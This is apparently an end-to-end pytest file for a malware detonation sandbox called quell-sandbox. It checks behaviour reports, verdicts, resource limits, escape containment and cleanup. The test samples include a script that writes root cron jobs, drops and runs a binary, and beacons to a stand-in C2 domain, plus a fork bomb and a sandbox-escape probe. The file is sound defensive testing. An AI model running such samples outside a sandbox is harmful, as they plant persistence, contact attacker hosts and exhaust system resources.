"""quell-sandbox end to end: the built binary detonates samples this test writes itself.

A script that plants a cron job, drops and runs a binary, resolves a domain and connects out
gets a report with each of those behaviours and the verdict malicious; a harmless script gets
noThreatsFound; a PNG is refused with exit 2. A fork bomb, a memory hog and a sleeper are
stopped by the pids, memory and wall-clock limits. Every run, and a supervisor stopped with
SIGTERM mid-run, leaves nothing on the host: no cgroups, mounts, temporary directories or
processes. Needs no server or lab, only root.
"""

import hashlib
import json
import os
import signal
import socket
import stat
import subprocess
import time

import pytest

CGROUP_PARENTS = ["/sys/fs/cgroup/memory/quell-sandbox", "/sys/fs/cgroup/pids/quell-sandbox",
                  "/sys/fs/cgroup/cpu/quell-sandbox", "/sys/fs/cgroup/quell-sandbox"]

MALICIOUS = b"""#!/bin/sh
echo '* * * * * root /tmp/dropper' > /etc/cron.d/quell-e2e
mkdir -p /var/spool/cron/crontabs
echo '* * * * * /tmp/dropper' > /var/spool/cron/crontabs/root
cp /bin/true /tmp/dropper
chmod +x /tmp/dropper
/tmp/dropper
python3 - <<'PY'
import socket
ip = socket.gethostbyname("c2.quell-e2e.example")
s = socket.create_connection((ip, 8443), timeout=3)
s.sendall(b"BEACON id=42 host=sandbox\\r\\n")
s.close()
PY
"""

HARMLESS = b"""#!/bin/sh
echo "hello from $(hostname)"
ls / > /dev/null
exit 0
"""


def _sandbox_bin():
    bin_dir = os.path.abspath(os.environ.get("QUELL_BIN_DIR", "build"))
    for p in (os.path.join(bin_dir, "quell-sandbox"),
              os.path.join(bin_dir, "src/sandbox/quell-sandbox")):
        if os.path.isfile(p) and os.access(p, os.X_OK):
            return p
    pytest.fail(f"quell-sandbox not found under {bin_dir}; build it or set QUELL_BIN_DIR")


def _leftovers(supervisor_pid):
    """What the run of quell-sandbox process `supervisor_pid` left on the host. Everything a
    run makes carries the supervisor's pid in its name, so concurrent runs do not count."""
    tag = f"{supervisor_pid}-"
    cgroups = [os.path.join(parent, d) for parent in CGROUP_PARENTS if os.path.isdir(parent)
               for d in os.listdir(parent) if d.startswith("run-" + tag)]
    with open("/proc/self/mountinfo") as f:
        mounts = [line for line in f if "quell-sandbox-" + tag in line]
    temp_dirs = [d for d in os.listdir("/tmp") if d.startswith("quell-sandbox-" + tag)]
    # A sandboxed process cannot leave its cgroups (the host's cgroup files are not its own).
    procs = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cgroup") as f:
                if "/run-" + tag in f.read():
                    procs.append(pid)
        except OSError:
            continue
    return {k: v for k, v in {"cgroups": cgroups, "mounts": mounts, "temp dirs": temp_dirs,
                              "processes": procs}.items() if v}


@pytest.fixture
def sandbox(tmp_path):
    """Runs quell-sandbox on a sample and checks that the run left nothing on the host."""
    binary = _sandbox_bin()

    def run(name, content, *extra, timeout=60):
        sample = tmp_path / name
        sample.write_bytes(content)
        report = tmp_path / (name + ".json")
        t0 = time.monotonic()
        p = subprocess.Popen([binary, "--sample", str(sample), "--report", str(report), *extra],
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        out, err = p.communicate(timeout=timeout)
        r = subprocess.CompletedProcess(p.args, p.returncode, out, err)
        r.elapsed = time.monotonic() - t0
        r.report_path = report
        r.report = json.loads(report.read_text()) if report.exists() else None
        assert not _leftovers(p.pid), f"{name}: left on the host: {_leftovers(p.pid)}"
        return r

    run.binary = binary
    run.tmp_path = tmp_path
    return run


def _behaviours(report, category):
    return [b for b in report["behaviors"] if b["category"] == category]


def test_malicious_script_every_behaviour_is_in_the_report(sandbox):
    existed = {p: os.path.exists(p) for p in ("/etc/cron.d/quell-e2e", "/tmp/dropper")}
    r = sandbox("invoice.sh", MALICIOUS, "--timeout-seconds", "30")
    assert r.returncode == 0, r.stderr
    assert "sandbox: sample running" in r.stderr
    assert stat.S_IMODE(os.stat(r.report_path).st_mode) == 0o600
    rep = r.report

    assert rep["sample"]["sha256"] == hashlib.sha256(MALICIOUS).hexdigest()
    assert rep["sample"]["fileName"] == "invoice.sh"
    assert rep["verdict"] == "malicious", rep["verdictReasons"]
    assert any("cron" in reason for reason in rep["verdictReasons"]), rep["verdictReasons"]

    # Persistence: the cron job, attempted even though the system is read-only.
    cron = [b for b in _behaviours(rep, "persistence")
            if b["details"].get("path") == "/etc/cron.d/quell-e2e"]
    assert cron and cron[0]["details"]["location"] == "cron", _behaviours(rep, "persistence")

    # The dropped binary with its hash, and its execution.
    with open("/bin/true", "rb") as f:
        true_sha = hashlib.sha256(f.read()).hexdigest()
    dropped = {d["path"]: d for d in rep["observables"]["droppedFiles"]}
    assert "/tmp/dropper" in dropped, dropped
    assert dropped["/tmp/dropper"]["sha256"] == true_sha
    assert dropped["/tmp/dropper"]["executable"] is True
    assert any(p["executable"] == "/tmp/dropper" for p in rep["processes"]), rep["processes"]
    assert any("/tmp/dropper" in b["description"] and "dropped" in b["description"]
               for b in _behaviours(rep, "execution"))

    # The domain and the connection to it, with what was sent.
    assert "c2.quell-e2e.example" in rep["observables"]["domains"]
    conns = [c for c in rep["observables"]["connections"]
             if c.get("domain") == "c2.quell-e2e.example"]
    assert conns, rep["observables"]["connections"]
    assert conns[0]["port"] == 8443
    assert conns[0]["firstBytes"].startswith("BEACON id=42 host=sandbox")
    assert not rep["observables"]["ips"], "sinkhole addresses are not contacted IPs"

    assert rep["limits"] == {"timedOut": False, "memoryLimitHit": False, "pidsLimitHit": False}
    assert 0 < rep["startupMs"] < 200, "start-up goal: < 200 ms to the sample's first instruction"
    # None of it reached the host.
    for path, was in existed.items():
        assert os.path.exists(path) == was, path


def test_harmless_script_no_threats_found(sandbox):
    r = sandbox("hello.sh", HARMLESS)
    assert r.returncode == 0, r.stderr
    assert r.report["verdict"] == "noThreatsFound", r.report["verdictReasons"]
    assert r.report["processes"][0]["exitCode"] == 0


def test_unsupported_file_is_refused(sandbox):
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(32)
    r = sandbox("photo.png", png)
    assert r.returncode == 2
    assert "unsupported file type" in r.stderr
    assert "ELF executables and sh, bash, python3 and perl scripts" in r.stderr
    assert r.report is None


def test_escapes_fail(sandbox):
    """Host files, the host's loopback and host processes are out of the sample's reach."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.setblocking(False)
    port = listener.getsockname()[1]
    host_file = sandbox.tmp_path / "escaped.txt"
    probe = f"""#!/usr/bin/python3
import os, socket, sys
bits = 0
for p in ["{host_file}", "/etc/quell-e2e-escape"]:
    try:
        os.makedirs(os.path.dirname(p), exist_ok=True)
        open(p, "w").write("escaped")
    except OSError:
        pass
try:
    s = socket.create_connection(("127.0.0.1", {port}), timeout=2)
    s.sendall(b"escape-probe")
    s.close()
except OSError:
    pass
pids = [int(d) for d in os.listdir("/proc") if d.isdigit()]
bits |= 1 if {os.getpid()} in pids else 0
bits |= 2 if os.getpid() > 10 else 0
sys.exit(bits)
""".encode()
    try:
        r = sandbox("probe.py", probe)
        assert r.returncode == 0, r.stderr
        assert r.report["processes"][0]["exitCode"] == 0, "1: a host pid is visible, 2: not a low pid"
        assert not host_file.exists()
        assert not os.path.exists("/etc/quell-e2e-escape")
        try:
            listener.accept()
            pytest.fail("the sample reached a listener on the host's loopback")
        except BlockingIOError:
            pass
        # The attempt ended at the fake network and is in the report.
        assert any(c["port"] == port and c["firstBytes"] == "escape-probe"
                   for c in r.report["observables"]["connections"]), r.report["observables"]
    finally:
        listener.close()


def test_limits_stop_a_fork_bomb_a_memory_hog_and_a_sleeper(sandbox):
    bomb = sandbox("bomb.sh", b"#!/bin/sh\nf(){ f|f& }; f\n", "--pids", "64",
                   "--timeout-seconds", "5")
    assert bomb.returncode == 0, bomb.stderr
    assert bomb.report["limits"]["pidsLimitHit"] is True
    assert bomb.elapsed < 8

    hog = sandbox("hog.py", b"#!/usr/bin/python3\nx = b'\\x01' * (2 << 30)\n",
                  "--memory-mb", "64")
    assert hog.returncode == 0, hog.stderr
    assert hog.report["limits"]["memoryLimitHit"] is True
    assert hog.report["limits"]["timedOut"] is False

    sleeper = sandbox("sleepy.sh", b"#!/bin/sh\nsleep 100\n", "--timeout-seconds", "2")
    assert sleeper.returncode == 0, sleeper.stderr
    assert sleeper.report["limits"]["timedOut"] is True
    assert sleeper.elapsed < 3.5


def test_sigterm_mid_run_stops_and_leaves_nothing(sandbox):
    sample = sandbox.tmp_path / "long.sh"
    sample.write_bytes(b"#!/bin/sh\nsleep 100 &\nsleep 100\n")
    report = sandbox.tmp_path / "long.json"
    p = subprocess.Popen([sandbox.binary, "--sample", str(sample), "--report", str(report),
                          "--timeout-seconds", "60"], stderr=subprocess.PIPE, text=True)
    try:
        lines = []
        for line in p.stderr:
            lines.append(line)
            if "sample running" in line:
                break
        assert any("sample running" in line for line in lines), lines
        time.sleep(0.3)
        assert "processes" in _leftovers(p.pid), "the sample should be running now"
        t0 = time.monotonic()
        p.send_signal(signal.SIGTERM)
        rc = p.wait(timeout=5)
        assert time.monotonic() - t0 < 3
        assert rc == 1, rc
        assert "interrupted" in p.stderr.read()
        assert not report.exists()
        assert not _leftovers(p.pid), _leftovers(p.pid)
    finally:
        if p.poll() is None:
            p.kill()
            p.wait()
